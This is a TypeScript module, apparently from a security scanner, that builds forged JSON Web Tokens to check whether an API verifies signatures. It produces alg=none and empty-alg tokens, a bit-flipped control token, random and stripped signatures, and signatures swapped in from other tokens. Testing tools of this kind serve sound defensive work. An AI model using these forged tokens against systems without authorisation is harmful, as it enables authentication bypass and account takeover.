import { randomBytes } from 'node:crypto';
import { base64urlEncode, encodeJsonSegment } from './base64url.ts';
import { type Patch, patchObject } from './objects.ts';
import { looksLikeJwt, type ParsedJwt, parseJwt } from './parse.ts';
import { joinToken } from './sign.ts';
import type { ForgedToken } from './types.ts';

export type RandomBytes = (length: number) => Uint8Array;
const defaultRandom: RandomBytes = (n) => new Uint8Array(randomBytes(n));

const NONE_SPELLINGS = ['none', 'None', 'NONE', 'nOnE'] as const;

function headerSegment(parsed: ParsedJwt, patch: Patch): string {
  return encodeJsonSegment(patchObject(parsed.header, patch));
}

/**
 * Unsigned tokens (claims kept byte for byte): four spellings of `none` with an empty signature and
 * with the original one, plus headers without `alg` and with `"alg":""`. Ten tokens at most.
 */
export function algNoneTokens(parsed: ParsedJwt): ForgedToken[] {
  const p = parsed.segments.payload;
  const original = parsed.segments.signature;
  const out: ForgedToken[] = [];
  for (const alg of NONE_SPELLINGS) {
    const h = headerSegment(parsed, { alg });
    out.push({
      token: joinToken(h, p, ''),
      variant: `alg=${alg}, empty signature`,
      description: `Header alg set to "${alg}", signature removed: an unsigned token.`,
      check: 'jwt-alg-none',
    });
    if (original !== '') {
      out.push({
        token: joinToken(h, p, original),
        variant: `alg=${alg}, original signature`,
        description: `Header alg set to "${alg}" while the original signature is kept (some libraries skip verification but not parsing).`,
        check: 'jwt-alg-none',
      });
    }
  }
  out.push(
    {
      token: joinToken(headerSegment(parsed, { alg: undefined }), p, ''),
      variant: 'no alg, empty signature',
      description: 'Header without an alg member and no signature.',
      check: 'jwt-alg-none',
    },
    {
      token: joinToken(headerSegment(parsed, { alg: '' }), p, ''),
      variant: 'alg="", empty signature',
      description: 'Header alg set to the empty string and no signature.',
      check: 'jwt-alg-none',
    },
  );
  return out;
}

export interface TamperOptions {
  random?: RandomBytes;
  /** How many other tokens' signatures to try; default 3. */
  maxOthers?: number;
}

/**
 * Signature checks. The first token is the CONTROL (last signature byte with its low bit flipped):
 * an API that validates signatures must reject it. Then a random signature of the same length, a
 * stripped signature (`h.p.`) and signatures taken from other tokens.
 */
export function signatureTamperTokens(
  parsed: ParsedJwt,
  otherTokens: readonly (ParsedJwt | string)[] = [],
  options: TamperOptions = {},
): ForgedToken[] {
  const random = options.random ?? defaultRandom;
  const { header: h, payload: p } = parsed.segments;
  const sigLength = parsed.signature.length > 0 ? parsed.signature.length : 32;
  const corrupted = parsed.signature.length > 0 ? parsed.signature.slice() : new Uint8Array(32).fill(0x41);
  corrupted[corrupted.length - 1] = (corrupted[corrupted.length - 1] ?? 0) ^ 0x01;
  let randomSig = random(sigLength);
  if (base64urlEncode(randomSig) === parsed.segments.signature) randomSig = random(sigLength);
  const out: ForgedToken[] = [
    {
      token: joinToken(h, p, corrupted),
      variant: 'control: corrupted signature',
      description:
        'Genuine token with one bit of the last signature byte flipped; a verifying API rejects it.',
      check: 'jwt-signature-not-verified',
      control: true,
    },
    {
      token: joinToken(h, p, randomSig),
      variant: 'random signature',
      description: `Genuine header and claims with ${sigLength} random signature bytes.`,
      check: 'jwt-signature-not-verified',
    },
    {
      token: joinToken(h, p, ''),
      variant: 'signature stripped',
      description: 'Genuine header and claims with the signature removed (header.payload.).',
      check: 'jwt-signature-not-verified',
    },
  ];
  const seen = new Set([parsed.segments.signature, '']);
  let n = 0;
  for (const other of otherTokens) {
    if (n >= (options.maxOthers ?? 3)) break;
    const sig =
      typeof other === 'string'
        ? looksLikeJwt(other)
          ? parseJwt(other).segments.signature
          : ''
        : other.segments.signature;
    if (seen.has(sig)) continue;
    seen.add(sig);
    n++;
    out.push({
      token: joinToken(h, p, sig),
      variant: n === 1 ? "another token's signature" : `another token's signature #${n}`,
      description: 'Genuine header and claims carrying the signature of a different token.',
      check: 'jwt-signature-not-verified',
    });
  }
  return out;
}
